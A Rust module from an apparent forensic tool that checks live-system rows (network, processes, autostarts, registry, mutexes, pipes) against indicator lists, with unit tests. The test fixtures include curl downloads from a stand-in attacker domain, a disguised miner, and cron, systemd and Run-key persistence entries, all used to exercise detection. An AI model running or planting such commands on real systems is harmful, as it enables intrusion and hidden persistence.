//! What a system told of itself, held against indicators: the rows of sockets, of the network, of processes, of what runs, of named objects, of
//! what starts by itself, and of the registry.
//!
//! In: the JSON lines of an item of rows, as much as the caller holds of it. Out: hits, each with the value that the row
//! has. Each kind of row is known by the schema in the first line; only fields that say what the host does are held
//! against the lists: whom it talks to, what it starts, what its registry holds. A row that is no JSON, as one that is
//! cut, says nothing.

use std::collections::BTreeSet;
use std::net::IpAddr;

use serde_json::Value;

use super::Indicators;
use super::rows::{command as said, path};
use crate::evidence::{Hit, Origin};

/// Most hits of one item: a table of thousands of sockets to one bad network fills no checkpoint.
const HITS: usize = 256;

/// Most words of one command line that are held against paths: the kernel allows a hundred thousand, of which each costs
/// a look-up in all patterns.
const WORDS: usize = 256;

/// What a row of a schema is asked: field by field, or, where what one field says depends on another, by its own function.
enum Ask {
    /// The fields that say something, and what they hold.
    Fields(&'static [(&'static str, Field)]),
    By(fn(&Indicators, &Value) -> Vec<Hit>),
}

/// What a field of a row holds. A list of it is asked one by one.
enum Field {
    /// An address, or one with its interface or port behind it.
    Address,
    /// The path of a file.
    Path,
    /// A command line, or a word of one.
    Command,
    /// MD5, SHA-1 or SHA-256 of a file, in hexadecimal digits.
    Digest,
}

/// How the names of the schemas begin, their version left out, and what their rows are asked. Another artifact of rows is
/// held against the lists once its fields are named here.
const SCHEMAS: [(&str, Ask); 8] = [
    ("urn:veldkit:live:network:", Ask::By(network)),
    // A host is an address or a name; only the former is one that a list can name here.
    ("urn:veldkit:live:logons:", Ask::Fields(&[("remote", Field::Address), ("host", Field::Address)])),
    ("urn:veldkit:live:sessions:", Ask::Fields(&[("remote", Field::Address), ("host", Field::Address)])),
    (
        "urn:veldkit:live:processes:",
        Ask::Fields(&[("program", Field::Path), ("command_line", Field::Command)]),
    ),
    ("urn:veldkit:live:executables:", Ask::Fields(&[("sha256", Field::Digest), ("path", Field::Path)])),
    (
        "urn:veldkit:live:autostarts:",
        Ask::Fields(&[
            ("file", Field::Path),
            ("launcher", Field::Path),
            ("target", Field::Path),
            ("command", Field::Command),
            ("sha256", Field::Digest),
        ]),
    ),
    ("urn:veldkit:live:objects:", Ask::By(object)),
    ("urn:veldkit:derived:registry:", Ask::By(registry)),
];

/// What the rows of an item meet; nothing where it is none, or its rows say nothing that a list can name.
pub(super) fn find(indicators: &Indicators, origin: &Origin, bytes: &[u8]) -> Option<Vec<Hit>> {
    if !matches!(origin, Origin::Live { .. } | Origin::Derived { .. }) {
        return None;
    }
    let mut lines = bytes.split(|byte| *byte == b'\n');
    let first: Value = serde_json::from_slice(lines.next()?).ok()?;
    let schema = first.get("schema")?.as_str()?;
    let (_, ask) = SCHEMAS.iter().find(|(begin, _)| schema.starts_with(begin))?;
    let (mut hits, mut seen) = (Vec::new(), BTreeSet::new());
    for row in lines.filter_map(|line| serde_json::from_slice::<Value>(line).ok()) {
        // A hundred connections to one address are one thing to be told.
        let new = asked(ask, indicators, &row).into_iter();
        hits.extend(new.filter(|hit| seen.insert((hit.rule.clone(), hit.source.clone(), hit.value.clone()))));
        if hits.len() >= HITS {
            hits.truncate(HITS);
            break;
        }
    }
    Some(hits)
}

fn asked(ask: &Ask, indicators: &Indicators, row: &Value) -> Vec<Hit> {
    let fields = match ask {
        Ask::Fields(fields) => fields,
        Ask::By(ask) => return ask(indicators, row),
    };
    let mut hits = Vec::new();
    for (name, field) in *fields {
        let Some(value) = row.get(*name) else { continue };
        let list = value.as_array().map_or(std::slice::from_ref(value), Vec::as_slice);
        for held in list.iter().take(WORDS).filter_map(|held| text(Some(held))) {
            hits.extend(match field {
                Field::Address => address(indicators, held).unwrap_or_default(),
                Field::Path => path(indicators, held),
                Field::Command => said(indicators, held),
                Field::Digest => indicators.digest(held),
            });
        }
    }
    hits
}

/// Whom the host asks for names, and what its own table of names says.
fn network(indicators: &Indicators, row: &Value) -> Vec<Hit> {
    match row.get("row").and_then(Value::as_str) {
        Some("resolver" | "neighbour") => {
            text(row.get("address")).and_then(|held| address(indicators, held)).unwrap_or_default()
        }
        Some("cached_name") => {
            let mut hits = Vec::new();
            for name in ["name", "alias"] {
                hits.extend(text(row.get(name)).map(|name| indicators.domain(name)).unwrap_or_default());
            }
            for answer in row.get("addresses").and_then(Value::as_array).into_iter().flatten() {
                hits.extend(
                    text(Some(answer)).and_then(|held| address(indicators, held)).unwrap_or_default(),
                );
            }
            hits
        }
        // A program that the host lets through.
        Some("firewall_rule") => {
            text(row.get("program")).map(|held| path(indicators, held)).unwrap_or_default()
        }
        // A name that is led to nowhere was blocked.
        Some("host") => {
            let to = text(row.get("address")).and_then(|text| text.parse::<IpAddr>().ok());
            let Some(to) = to.filter(|to| !to.is_loopback() && !to.is_unspecified()) else {
                return Vec::new();
            };
            let names = row.get("names").and_then(Value::as_array).into_iter().flatten();
            let names = names.filter_map(|name| text(Some(name)));
            indicators
                .address(&to)
                .into_iter()
                .chain(names.flat_map(|name| indicators.domain(name)))
                .collect()
        }
        _ => Vec::new(),
    }
}

/// A pipe, or an object of the kind that lists name.
fn object(indicators: &Indicators, row: &Value) -> Vec<Hit> {
    let Some(name) = text(row.get("name")) else { return Vec::new() };
    match (row.get("row").and_then(Value::as_str), row.get("kind").and_then(Value::as_str)) {
        (Some("pipe"), _) => indicators.pipe(name),
        (Some("object"), Some("mutex")) => indicators.mutex(name),
        _ => Vec::new(),
    }
}

/// A key or a value. What a value holds is asked as a command line is: it is where a host is told what to start.
fn registry(indicators: &Indicators, row: &Value) -> Vec<Hit> {
    let Some(key) = text(row.get("key")) else { return Vec::new() };
    let number = row.get("number").and_then(Value::as_u64).map(|number| number.to_string());
    let list = row.get("list").and_then(Value::as_array).into_iter().flatten();
    let mut held: Vec<&str> = text(row.get("text")).into_iter().chain(number.as_deref()).collect();
    held.extend(list.take(WORDS).filter_map(|part| text(Some(part))));
    let name = text(row.get("name"));
    let said = held.iter().flat_map(|held| said(indicators, held)).collect::<Vec<_>>();
    let mut met = indicators.registry(key, name, held.first().copied());
    for held in held.iter().skip(1) {
        met.extend(indicators.registry(key, name, Some(held)));
    }
    met.into_iter().chain(said).collect()
}

fn address(indicators: &Indicators, text: &str) -> Option<Vec<Hit>> {
    // An address of a link is followed by its interface.
    let address: IpAddr = text.split('%').next()?.parse().ok()?;
    Some(indicators.address(&address))
}

/// Text of a row: a string, or what is not UTF-8 as text.
fn text(value: Option<&Value>) -> Option<&str> {
    let value = value?;
    value.as_str().or_else(|| value.get("text")?.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::Utc;

    fn indicators(list: &str) -> Indicators {
        crate::scan::indicators::read_bytes(list.as_bytes(), None, Utc::from_unix(0, 0).unwrap())
    }

    fn rules(list: &str, schema: &str, rows: &[Value]) -> Vec<String> {
        let mut text = format!("{{\"row\":\"schema\",\"schema\":\"{schema}\"}}\n");
        for row in rows {
            text.push_str(&row.to_string());
            text.push('\n');
        }
        let origin = Origin::Live { name: "x.jsonl".to_owned() };
        let hits = find(&indicators(list), &origin, text.as_bytes());
        hits.unwrap_or_default().into_iter().map(|hit| hit.rule).collect()
    }

    use serde_json::json;

    #[test]
    fn names_that_are_led_elsewhere_and_resolvers_are_held_against_domains_and_addresses() {
        let list = "evil.example.org;c2\n203.0.113.53;rogue resolver\n";
        let host = |to: &str| json!({"row": "host", "address": to, "names": ["login.evil.example.org"]});
        let schema = "urn:veldkit:live:network:1";
        let rows =
            [json!({"row": "resolver", "address": "203.0.113.53"}), host("192.0.2.9"), host("0.0.0.0")];
        assert_eq!(rules(list, schema, &rows), ["address:203.0.113.53", "domain:evil.example.org"]);
    }

    #[test]
    fn what_a_process_runs_and_is_told_is_held_against_paths_urls_and_domains() {
        let list = "type,value\nfilename,/tmp/.x/miner\nfilename,C:\\ProgramData\\run.dll\ndomain,evil.example.org\n";
        let schema = "urn:veldkit:live:processes:1";
        let process = |program: &str, words: &[&str]| json!({"row": "process", "program": program, "command_line": words});
        let rows = [
            process("/tmp/.x/miner", &["[kworker/0:1]"]),
            process("/usr/bin/curl", &["curl", "--url=https://cdn.evil.example.org/a", "-o", "x"]),
            process(
                "C:\\Windows\\System32\\rundll32.exe",
                &["rundll32.exe", "c:\\programdata\\RUN.dll,Start"],
            ),
            process("/usr/bin/vi", &["vi", "/home/u/miner"]),
        ];
        let found = rules(list, schema, &rows);
        assert!(found.iter().any(|rule| rule.contains("/tmp/.x/miner")), "{found:?}");
        assert!(found.iter().any(|rule| rule == "domain:evil.example.org"), "{found:?}");
        assert_eq!(found.len(), 3, "the name alone is no path: {found:?}");
    }

    #[test]
    fn what_runs_is_held_against_digests() {
        let digest = "ab".repeat(32);
        let row = json!({"row": "file", "path": "/usr/bin/x", "sha256": digest});
        assert_eq!(
            rules(&format!("{digest};bad\n"), "urn:veldkit:live:executables:1", &[row]),
            [format!("sha256:{digest}")]
        );
    }

    #[test]
    fn rows_of_the_registry_are_held_against_keys_values_and_the_paths_in_them() {
        let list = "type,value\nregkey,HKLM\\Software\\Evil\nfilename,C:\\Temp\\evil.exe\n";
        let schema = "urn:veldkit:derived:registry:1";
        let run = "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
        let rows = [
            json!({"row": "key", "key": "HKEY_LOCAL_MACHINE\\Software\\Evil"}),
            json!({"row": "value", "key": run, "name": "x", "type": "REG_SZ", "text": "\"C:\\temp\\Evil.exe\" -k"}),
            json!({"row": "value", "key": run, "name": "y", "type": "REG_SZ", "text": "C:\\good.exe"}),
        ];
        let found = rules(list, schema, &rows);
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(found[0].starts_with("registry:") && found[1].starts_with("path:"), "{found:?}");
    }

    #[test]
    fn what_starts_by_itself_is_held_against_paths_commands_and_digests() {
        let digest = "cd".repeat(32);
        let list = format!("type,value\nfilename,/opt/.x/run.sh\ndomain,evil.example.org\nsha256,{digest}\n");
        let rows = [
            json!({"row": "start", "kind": "cron", "file": "/etc/crontab", "command": "/opt/.x/run.sh -q"}),
            json!({"row": "start", "kind": "systemd", "file": "/etc/systemd/system/a.service",
                "command": "/usr/bin/curl http://cdn.evil.example.org/a"}),
            json!({"row": "module", "target": "/lib/modules/x.ko", "sha256": digest}),
            json!({"row": "start", "kind": "cron", "file": "/etc/crontab", "command": "/usr/bin/good"}),
        ];
        let found = rules(&list, "urn:veldkit:live:autostarts:1", &rows);
        assert_eq!(found.len(), 3, "{found:?}");
        assert!(found[0].contains("/opt/.x/run.sh") && found[2].starts_with("sha256:"), "{found:?}");
    }

    #[test]
    fn pipes_mutexes_and_names_asked_for_are_held_against_their_lists() {
        let list = "type,value\nmutex,Evil_One\nnamed pipe,msagent_7\ndomain,evil.example.org\n";
        let folder = "\\Sessions\\1\\BaseNamedObjects";
        let rows = [
            json!({"row": "object", "kind": "mutex", "name": "Evil_One", "folder": folder}),
            json!({"row": "object", "kind": "event", "name": "Evil_One", "folder": folder}),
            json!({"row": "object", "kind": "mutex", "name": "Evil_Two", "folder": folder}),
            json!({"row": "pipe", "name": "MSAgent_7", "instances": 1}),
            json!({"row": "pipe", "name": "Evil_One"}),
        ];
        let found = rules(list, "urn:veldkit:live:objects:1", &rows);
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(found[0].starts_with("mutex:") && found[1].starts_with("pipe:"), "{found:?}");
        let rows = [
            json!({"row": "cached_name", "name": "cdn.evil.example.org", "kind": 1}),
            json!({"row": "cached_name", "name": "notevil.example.org", "kind": 1}),
        ];
        let found = rules(list, "urn:veldkit:live:network:1", &rows);
        assert_eq!(found, ["domain:evil.example.org"]);
        let list =
            "type,value,comment\ndomain,evil.example.org,x\nip-dst,203.0.113.0/24,x\nfilename,k.exe,x\n";
        let rows = [
            json!({"row": "cached_name", "name": "a.example.org", "kind": 5, "alias": "b.evil.example.org"}),
            json!({"row": "cached_name", "name": "c.example.org", "kind": 1, "addresses": ["192.0.2.1", "203.0.113.7"]}),
            json!({"row": "firewall_rule", "id": "1", "program": "C:\\Users\\Public\\k.exe"}),
        ];
        let found = rules(list, "urn:veldkit:live:network:1", &rows);
        assert_eq!(found.len(), 3, "{found:?}");
    }

    #[test]
    fn from_where_somebody_logs_on_is_held_against_addresses() {
        let list = "203.0.113.0/24;a bad net\n2001:db8::7;a bad host\n";
        let rows = [
            json!({"row": "logon", "kind": "boot", "host": "6.1.0-18-amd64"}),
            json!({"row": "logon", "kind": "logon", "host": "203.0.113.9", "remote": "203.0.113.9"}),
            json!({"row": "session", "remote": "2001:db8::7"}),
        ];
        for schema in ["urn:veldkit:live:logons:1", "urn:veldkit:live:sessions:1"] {
            assert_eq!(rules(list, schema, &rows), ["address:203.0.113.0/24", "address:2001:db8::7"]);
        }
    }
}
